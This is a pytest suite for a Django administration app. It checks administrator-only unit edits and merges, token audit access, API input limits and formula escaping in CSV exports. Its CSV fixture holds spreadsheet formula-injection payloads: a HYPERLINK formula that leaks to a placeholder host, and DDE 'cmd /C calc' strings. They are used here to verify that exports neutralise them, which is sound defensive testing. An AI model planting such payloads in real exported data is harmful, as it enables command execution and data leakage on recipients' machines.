"""Rights and limits (issue 11): the unit directory and merges are the administrator's, a merge
that moves accounts names them and asks; every CSV export escapes formulas alike; the API's
text inputs have limits; a token's trail is its owner's (and the administrator's)."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any

import pytest
from django.test import Client

from duban.accounts.models import User
from duban.audit.models import AuditEvent
from duban.extract.csv_text import FORMULA_STARTS, csv_cell, csv_text
from duban.plans.actions import do_upload_document
from duban.plans.models import ImportDraft, ImportStatus, Plan
from duban.tokens.actions import do_create_token
from duban.units.actions import UnitError, do_add_alias, do_merge_units, do_update_unit
from duban.units.models import Alias, Unit

from .conftest import SMALL_PLAN
from .test_permission_walk import routes, url_for

# ─── the directory is the administrator's ───────────────────────────────────────────────────


def client_of(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize("role", ["manager", "other_manager", "leader", "reporter"])
def test_only_the_administrator_changes_the_directory_even_through_the_actions(
    users: dict[str, User], role: str
) -> None:
    police, justice = Unit.objects.get(name="区公安分局"), Unit.objects.get(name="区司法局")
    events = AuditEvent.objects.count()
    for change in (
        lambda: do_update_unit(
            police, name="改名局", kind="department", parent=None, acting_user=users[role]
        ),
        lambda: do_add_alias(police, "公安别名", acting_user=users[role]),
        lambda: do_merge_units(justice, police, moving_users=[users["reporter"].pk], acting_user=users[role]),
    ):
        with pytest.raises(UnitError, match="只有系统管理员"):
            change()
    assert Unit.objects.filter(name="区公安分局").exists() and not Alias.objects.exists()
    assert AuditEvent.objects.count() == events


def test_the_unit_page_offers_the_upkeep_only_to_the_administrator(users: dict[str, User]) -> None:
    police = Unit.objects.get(name="区公安分局")
    edit = f"/units/{police.pk}/edit/"
    assert edit in client_of(users["admin"]).get(f"/units/{police.pk}/").content.decode()
    assert edit not in client_of(users["manager"]).get(f"/units/{police.pk}/").content.decode()


def merge_page(users: dict[str, User], gone: Unit, into: Unit) -> str:
    response = client_of(users["admin"]).get(f"/units/{gone.pk}/merge/", {"into": into.pk})
    assert response.status_code == 200
    return response.content.decode()


def test_the_merge_page_names_the_accounts_that_would_move(users: dict[str, User]) -> None:
    police, justice = Unit.objects.get(name="区公安分局"), Unit.objects.get(name="区司法局")
    html = merge_page(users, police, justice)
    assert "1 个账号改属“区司法局”" in html and "<td>police</td>" in html
    assert 'name="confirm_users"' in html


def test_a_merge_that_moves_accounts_is_refused_without_the_box_ticked(users: dict[str, User]) -> None:
    police, justice = Unit.objects.get(name="区公安分局"), Unit.objects.get(name="区司法局")
    reporter = users["reporter"]
    response = client_of(users["admin"]).post(
        f"/units/{police.pk}/merge/", {"into": justice.pk, "users": str(reporter.pk)}
    )
    assert response.status_code == 400 and "请核对后勾选确认" in response.content.decode()
    reporter.refresh_from_db()
    assert reporter.unit_id == police.pk and Unit.objects.filter(pk=police.pk).exists()
    assert not AuditEvent.objects.filter(action="merge_units").exists()


def test_a_confirmed_merge_moves_the_accounts_and_audits_who_moved(users: dict[str, User]) -> None:
    police, justice = Unit.objects.get(name="区公安分局"), Unit.objects.get(name="区司法局")
    reporter = users["reporter"]
    response = client_of(users["admin"]).post(
        f"/units/{police.pk}/merge/", {"into": justice.pk, "users": str(reporter.pk), "confirm_users": "on"}
    )
    assert response.status_code == 302
    reporter.refresh_from_db()
    assert reporter.unit_id == justice.pk and not Unit.objects.filter(pk=police.pk).exists()
    event = AuditEvent.objects.get(action="merge_units")
    assert event.after is not None and (event.after["accounts"], event.after["users"]) == (["police"], 1)
    assert "1 个账号随之改属" in event.summary


def test_a_merge_is_refused_when_an_account_was_added_after_the_page_was_shown(
    users: dict[str, User],
) -> None:
    police, justice = Unit.objects.get(name="区公安分局"), Unit.objects.get(name="区司法局")
    shown = str(users["reporter"].pk)
    late = User.objects.create_user("police2", password="pw-police2-123", role="reporter", unit=police)
    response = client_of(users["admin"]).post(
        f"/units/{police.pk}/merge/", {"into": justice.pk, "users": shown, "confirm_users": "on"}
    )
    assert response.status_code == 400 and "police2" in response.content.decode()
    late.refresh_from_db()
    assert late.unit_id == police.pk and Unit.objects.filter(pk=police.pk).exists()


def test_a_merge_without_accounts_needs_no_box(users: dict[str, User]) -> None:
    justice = Unit.objects.get(name="区司法局")
    User.objects.filter(unit=justice).update(unit=None)
    spare = Unit.objects.create(name="区司法局（旧）")
    assert 'name="confirm_users"' not in merge_page(users, spare, justice)
    response = client_of(users["admin"]).post(f"/units/{spare.pk}/merge/", {"into": justice.pk, "users": ""})
    assert response.status_code == 302 and not Unit.objects.filter(pk=spare.pk).exists()


# ─── tokens' trails ─────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("role", "status"),
    [("reporter", 200), ("admin", 200), ("manager", 404), ("other_reporter", 404), ("leader", 404)],
)
def test_a_tokens_trail_is_its_owners_and_the_administrators(
    users: dict[str, User], role: str, status: int
) -> None:
    token, _raw = do_create_token("脚本", acting_user=users["reporter"])
    assert client_of(users[role]).get(f"/audit/tokens.apitoken/{token.pk}/").status_code == status


# ─── CSV: one escaping for every export ─────────────────────────────────────────────────────

HOSTILE_TEXT = {
    "plan": '=HYPERLINK("http://x.example/?leak","点我")',
    "task": "+cmd|' /C calc'!A0",
    "text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit": "-2+3局",
}


@pytest.fixture
def hostile_plan(users: dict[str, User], small_plan: Plan) -> Plan:
    Plan.objects.filter(pk=small_plan.pk).update(title=HOSTILE_TEXT["plan"], shared_with_all=True)
    task = small_plan.tasks.get(number="1")
    task.title, task.text = HOSTILE_TEXT["task"], HOSTILE_TEXT["text"]
    task.save(update_fields=["title", "text"])
    Unit.objects.filter(name="区公安分局").update(name=HOSTILE_TEXT["unit"])
    return Plan.objects.get(pk=small_plan.pk)


def csv_routes() -> list[str]:
    return sorted(name for name, _ in routes() if name.startswith("exports:"))


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


@pytest.mark.parametrize("name", csv_routes())
def test_every_csv_export_writes_formulas_as_text(
    users: dict[str, User], hostile_plan: Plan, name: str
) -> None:
    pattern = dict(routes())[name]
    world: dict[str, Any] = {
        "plan": hostile_plan,
        "other": hostile_plan,
        "unit": Unit.objects.get(name=HOSTILE_TEXT["unit"]),
    }
    unused = SimpleNamespace(pk=0)  # objects the export routes do not name
    url = url_for(name, pattern, {**world, "task": unused, "draft": unused, "token": unused})
    url = url.replace(".xlsx", ".csv")
    response = client_of(users["admin"]).get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), url
    cells = csv_cells(response.content)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], url
    quoted = [c for c in cells if c.startswith("'") and c[1:] in HOSTILE_TEXT.values()]
    assert quoted, f"{url}: the hostile text should be there, quoted as text"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_is_written_as_text(start: str) -> None:
    value = f"{start}1+1"
    rows = list(csv.reader(io.StringIO(csv_text(["h"], [[value, "平常", 3, -3, None]])[1:])))
    assert rows[1] == ["'" + value, "平常", "3", "-3", ""]
    assert csv_cell(-3) == -3  # a number is a number, not a formula


# ─── the API's text limits ──────────────────────────────────────────────────────────────────


def test_the_api_refuses_an_over_long_unit_name_with_422_naming_the_field(users: dict[str, User]) -> None:
    draft = do_upload_document("small.txt", SMALL_PLAN, acting_user=users["manager"])
    printed = "区司法局"
    response = client_of(users["manager"]).post(
        f"/api/imports/{draft.pk}/confirm", {"units": {printed: "局" * 101}}, content_type="application/json"
    )
    assert response.status_code == 422
    (error,) = response.json()["errors"]
    assert error["field"] == f"units.{printed}" and "最多 100 个字符" in error["message"]
    assert ImportDraft.objects.get(pk=draft.pk).status == ImportStatus.PENDING
